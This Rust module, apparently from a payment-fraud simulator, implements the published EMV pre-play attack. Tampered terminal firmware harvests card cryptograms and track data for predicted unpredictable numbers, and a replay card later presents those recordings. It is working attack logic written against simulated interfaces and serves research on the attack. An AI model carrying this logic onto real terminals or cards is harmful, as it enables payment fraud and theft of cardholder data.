//! Pre-play (Bond, Choudary, Murdoch, Skorobogatov, Anderson: "Chip and
//! Skim", IEEE S&P 2014). Tampered firmware in one terminal, once a chip
//! card's purchase is over but before the card leaves the slot, runs the
//! card through more sessions of its own and asks each for a cryptogram over a future
//! purchase: the amount the attacker will spend and an unpredictable number
//! (9F37) another terminal is going to use. Where that terminal's numbers
//! come from a counter they can be guessed, and a device that replays the
//! card's recorded answers later gets genuine ARQCs accepted there.
//!
//! [`Harvester`] is the firmware (a [`CardTap`] on the tampered terminal);
//! [`Replayer`] the attacker's card, which answers from a [`Preplayed`]
//! recording and never reaches a real card.

use super::{Stolen, Theft};
use crate::card::Interface;
use crate::money::Money;
use crate::protocol::apdu::ins;
use crate::protocol::crypto;
use crate::protocol::tlv::{self, Dol};
use crate::protocol::track::Track2;
use crate::terminal::{CardChannel, CardTap};

/// What the firmware is told to predict: the unpredictable numbers the
/// target terminal will use next, and the amount to be spent there.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Forecast {
    /// The numbers, in the order the target will use them.
    pub uns: Vec<[u8; 4]>,
    /// The amount of each purchase to come.
    pub amount: Money,
}

/// One card's recording: its answer to reset, the session up to the first
/// GENERATE AC, and cryptograms made in advance for the forecast numbers.
#[derive(Clone, PartialEq, Eq)]
pub struct Preplayed {
    /// The answer to reset.
    pub atr: Vec<u8>,
    /// Every command before the first GENERATE AC and the card's answer.
    pub session: Vec<(Vec<u8>, Vec<u8>)>,
    /// GENERATE AC commands as the target will send them, and the answers.
    pub cryptograms: Vec<(Vec<u8>, Vec<u8>)>,
    /// The unpredictable number each cryptogram was made for, in order.
    pub uns: Vec<[u8; 4]>,
}

impl Preplayed {
    /// Whether a cryptogram was made for the unpredictable number `un`.
    pub fn covers(&self, un: [u8; 4]) -> bool {
        self.uns.contains(&un)
    }
}

impl std::fmt::Debug for Preplayed {
    // Card data: never printed.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "Preplayed({} commands, {} cryptograms)",
            self.session.len(),
            self.cryptograms.len()
        )
    }
}

/// Tampered terminal firmware that harvests cryptograms for a forecast.
pub struct Harvester {
    owner: usize,
    forecast: Forecast,
    atr: Vec<u8>,
    session: Vec<(Vec<u8>, Vec<u8>)>,
    /// The session's first GENERATE AC, kept until the second ends it.
    first_ac: Option<Vec<u8>>,
    taken: Vec<Theft>,
}

impl std::fmt::Debug for Harvester {
    // The session holds tag 57 and plaintext PINs: never printed.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "Harvester(attack {}, {} numbers forecast, {} taken)",
            self.owner,
            self.forecast.uns.len(),
            self.taken.len()
        )
    }
}

impl Harvester {
    /// Firmware put in by attack `owner`.
    pub fn new(owner: usize) -> Self {
        Self {
            owner,
            forecast: Forecast::default(),
            atr: Vec::new(),
            session: Vec::new(),
            first_ac: None,
            taken: Vec::new(),
        }
    }

    /// What to predict from now on (the driver knows the target terminal).
    pub fn set_forecast(&mut self, forecast: Forecast) {
        self.forecast = forecast;
    }

    /// Runs the recorded session again for each forecast number and keeps
    /// the cryptogram the card makes over it.
    fn harvest(
        &self,
        first_ac: &[u8],
        card: &mut dyn CardChannel,
    ) -> Vec<([u8; 4], Vec<u8>, Vec<u8>)> {
        let Some(cdol1) = self.cdol1() else { return Vec::new() };
        // Only the layout this firmware knows: a 6-byte amount, a 4-byte UN.
        let (Some((amount_at, 6)), Some((un_at, 4))) =
            (offset(&cdol1, 0x9F02), offset(&cdol1, 0x9F37))
        else {
            return Vec::new();
        };
        let lc = usize::from(first_ac.get(4).copied().unwrap_or(0));
        let Some(data) = first_ac.get(5..5 + lc) else { return Vec::new() };
        let amount = crypto::amount_n12(self.forecast.amount.minor());
        let mut out = Vec::with_capacity(self.forecast.uns.len());
        for un in &self.forecast.uns {
            let mut predicted = data.to_vec();
            if let Some(a) = predicted.get_mut(amount_at..amount_at + 6) {
                a.copy_from_slice(&amount);
            }
            if let Some(u) = predicted.get_mut(un_at..un_at + 4) {
                u.copy_from_slice(un);
            }
            let mut cmd = first_ac.get(..5).unwrap_or_default().to_vec();
            cmd.extend_from_slice(&predicted);
            cmd.extend_from_slice(first_ac.get(5 + lc..).unwrap_or_default());
            // A fresh session each time, as the terminal ran it.
            card.power_on(Interface::Contact);
            for (c, _) in &self.session {
                card.transmit(c);
            }
            let resp = card.transmit(&cmd);
            if resp.ends_with(&[0x90, 0x00]) {
                out.push((*un, cmd, resp));
            }
        }
        out
    }

    /// The card's CDOL1, from the records it gave in this session.
    fn cdol1(&self) -> Option<Dol> {
        self.session.iter().find_map(|(c, r)| {
            let body = r.get(..r.len().checked_sub(2)?)?;
            (c.get(1) == Some(&ins::READ_RECORD))
                .then(|| tlv::find_deep(body, 0x8C))
                .flatten()
                .and_then(|d| Dol::parse(d).ok())
        })
    }

    /// The card's number and tag 57, from this session's records.
    fn track(&self) -> Option<(String, String)> {
        self.session.iter().find_map(|(c, r)| {
            if c.get(1) != Some(&ins::READ_RECORD) {
                return None;
            }
            let body = r.get(..r.len().checked_sub(2)?)?;
            let t2 = Track2::parse_tag57(tlv::find_deep(body, 0x57)?).ok()?;
            Some((t2.pan.clone(), t2.to_field35()))
        })
    }
}

/// Where a tag's value starts in data filled from `dol`, and its length.
fn offset(dol: &Dol, tag: u32) -> Option<(usize, usize)> {
    let mut at = 0usize;
    for &(t, len) in &dol.0 {
        if t == tag {
            return Some((at, len));
        }
        at = at.checked_add(len)?;
    }
    None
}

impl CardTap for Harvester {
    fn name(&self) -> &'static str {
        "pre_play"
    }

    fn owner(&self) -> Option<usize> {
        Some(self.owner)
    }

    fn power_on(&mut self, interface: Interface, card: &mut dyn CardChannel) -> Vec<u8> {
        let atr = card.power_on(interface);
        self.session.clear();
        self.first_ac = None;
        self.atr = if interface == Interface::Contact { atr.clone() } else { Vec::new() };
        atr
    }

    fn transmit(&mut self, capdu: &[u8], card: &mut dyn CardChannel) -> Vec<u8> {
        let rapdu = card.transmit(capdu);
        if self.atr.is_empty() {
            return rapdu;
        }
        let ok = rapdu.ends_with(&[0x90, 0x00]);
        if capdu.get(1) != Some(&ins::GENERATE_AC) {
            // A failed VERIFY is not replayed: it would cost the card a try.
            let failed_pin = capdu.get(1) == Some(&ins::VERIFY) && !ok;
            if !failed_pin && self.first_ac.is_none() {
                self.session.push((capdu.to_vec(), rapdu.clone()));
            }
            return rapdu;
        }
        if capdu.get(2).is_some_and(|p1| p1 & 0xC0 == 0x80) {
            // The card's own cryptogram goes to the terminal untouched.
            self.first_ac = ok.then(|| capdu.to_vec());
            return rapdu;
        }
        // The second GENERATE AC: the purchase is over, the card still in
        // the slot. Now the firmware runs it through sessions of its own
        // (their ATCs all above the one the bank just saw).
        if let Some(first_ac) = self.first_ac.take()
            && !self.forecast.uns.is_empty()
        {
            let cryptograms = self.harvest(&first_ac, card);
            if let (false, Some((pan, tag57))) = (cryptograms.is_empty(), self.track()) {
                let recording = Preplayed {
                    atr: self.atr.clone(),
                    session: std::mem::take(&mut self.session),
                    uns: cryptograms.iter().map(|c| c.0).collect(),
                    cryptograms: cryptograms.into_iter().map(|(_, c, r)| (c, r)).collect(),
                };
                self.taken.push(Theft { pan: pan.clone(), stolen: Stolen::Tag57(tag57) });
                self.taken.push(Theft { pan, stolen: Stolen::Preplayed(Box::new(recording)) });
            }
        }
        self.atr.clear();
        self.session.clear();
        rapdu
    }

    fn take(&mut self) -> Vec<Theft> {
        std::mem::take(&mut self.taken)
    }

    fn as_any_mut(&mut self) -> Option<&mut dyn std::any::Any> {
        Some(self)
    }
}

/// The attacker's card: answers from a recording, never from a real chip.
/// A first GENERATE AC gets the cryptogram made for exactly that command
/// (the same amount, date and unpredictable number), or, when the guess
/// was wrong, the first one recorded, which the bank will refuse; a second
/// GENERATE AC gets a TC, which no terminal checks.
#[derive(Debug)]
pub struct Replayer {
    recording: Box<Preplayed>,
    last: Option<Vec<u8>>,
    cursor: usize,
}

impl Replayer {
    /// A card that replays `recording`.
    pub fn new(recording: Box<Preplayed>) -> Self {
        Self { recording, last: None, cursor: 0 }
    }
}

impl CardTap for Replayer {
    fn name(&self) -> &'static str {
        "pre_play_card"
    }

    fn power_on(&mut self, interface: Interface, _: &mut dyn CardChannel) -> Vec<u8> {
        self.last = None;
        self.cursor = 0;
        if interface == Interface::Contact { self.recording.atr.clone() } else { Vec::new() }
    }

    fn transmit(&mut self, capdu: &[u8], _: &mut dyn CardChannel) -> Vec<u8> {
        if capdu.get(1) == Some(&ins::GENERATE_AC) {
            if capdu.get(2).is_some_and(|p1| p1 & 0xC0 == 0x80) {
                let rec = &self.recording.cryptograms;
                let hit = rec.iter().find(|(c, _)| c == capdu).or(rec.first());
                let resp = hit.map(|(_, r)| r.clone()).unwrap_or_else(|| vec![0x69, 0x85]);
                self.last = Some(resp.clone());
                return resp;
            }
            // The second cryptogram: the first, relabelled a TC.
            let Some(mut resp) = self.last.take() else { return vec![0x69, 0x85] };
            super::relabel_tc(&mut resp);
            return resp;
        }
        // The same command can mean different things at different points (a
        // READ RECORD of the directory, then of the application): answer in
        // the recorded order, from the last answer on.
        let rec = &self.recording.session;
        let at = (self.cursor..rec.len())
            .chain(0..self.cursor.min(rec.len()))
            .find(|&k| rec[k].0 == capdu);
        match at {
            Some(k) => {
                self.cursor = k + 1;
                rec[k].1.clone()
            }
            None => vec![0x6A, 0x82],
        }
    }

    fn swipe(&mut self, _: &mut dyn CardChannel) -> Option<String> {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_firmware_and_its_recordings_never_print_card_data() {
        let tag57 = b"\x57\x10\x47\x61\x73\x90\x01\x01\x01\x19\xD2\x51\x22\x01\x12\x34\x56\x7F";
        let mut h = Harvester::new(0);
        h.session.push((vec![0x00, 0xB2, 0x01, 0x0C, 0x00], [&tag57[..], &[0x90, 0x00]].concat()));
        h.session.push((
            b"\x00\x20\x00\x80\x08\x24\x12\x34\xFF\xFF\xFF\xFF\xFF".to_vec(),
            vec![0x90, 0x00],
        ));
        let rec = Preplayed {
            atr: vec![0x3B],
            session: h.session.clone(),
            cryptograms: vec![],
            uns: vec![],
        };
        for shown in [format!("{h:?}"), format!("{rec:?}")] {
            assert!(!shown.contains("4761739001010119") && !shown.contains("47617390"), "{shown}");
            assert!(!shown.contains("1234"), "the PIN of the VERIFY: {shown}");
        }
    }
}
